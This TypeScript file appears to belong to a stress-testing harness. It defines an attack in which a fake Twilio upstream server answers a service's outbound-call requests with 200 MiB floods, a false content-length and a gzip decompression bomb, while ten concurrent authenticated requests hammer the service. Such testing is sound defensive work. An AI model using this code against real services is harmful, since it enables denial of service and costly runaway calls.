import { createGzip } from "node:zlib"
import { type Attack, countsText } from "../Attack.ts"
import { type Handler, serve } from "../attackerServer.ts"
import { askAgainAndAgain } from "../requests.ts"

/** 1 MiB of spaces. */
const piece = Buffer.alloc(2 ** 20, " ")

/** The length of an answer, MiB. */
const answerMiB = 200

/** 200 MiB of spaces, compressed to about 200 KiB. */
const compressAnswer = (): Promise<Buffer> =>
  new Promise((resolve) => {
    const gzip = createGzip()
    const pieces: Array<Buffer> = []
    gzip.on("data", (chunk: Buffer) => pieces.push(chunk)).once("end", () => resolve(Buffer.concat(pieces)))
    for (let count = 0; count < answerMiB; count++) gzip.write(piece)
    gzip.end()
  })

/** Sends 200 MiB of spaces, as fast as the service reads them. */
const sendAll: Handler = (_, response) => {
  let sent = 0
  const send = () => {
    while (sent++ < answerMiB) if (!response.write(piece)) return void response.once("drain", send)
    response.end()
  }
  send()
}

export const twilioAnswers: Attack = {
  name: "Twilio answers 200 MB",
  strength: "10 outbound calls at a time",
  env: { TWILIO_PHONE_NUMBER: "+14155550199", CALLS_PER_SECOND: "200" },
  host: async () => {
    const compressed = await compressAnswer()
    let asked = 0
    const url = await serve((request, response) => {
      response.statusCode = 201
      response.setHeader("content-type", "application/json")
      switch (asked++ % 3) {
        case 0:
          return sendAll(request, response)
        case 1:
          response.setHeader("content-length", answerMiB * piece.length)
          return sendAll(request, response)
        default:
          return void response.setHeader("content-encoding", "gzip").end(compressed)
      }
    })
    return { TWILIO_API_BASE_URL: url }
  },
  run: async (siege) => {
    let called = 0
    const answers = await askAgainAndAgain(siege, 10, () => {
      const body = JSON.stringify({ to: `+1415555${1000 + called++ % 9000}` })
      return [
        "POST /call/outbound HTTP/1.1",
        `Host: ${siege.host}:${siege.port}`,
        "Content-Type: application/json",
        `Content-Length: ${body.length}`,
        `Authorization: Bearer ${siege.apiKey}`,
        "",
        body
      ].join("\r\n")
    })
    return countsText(answers)
  }
}
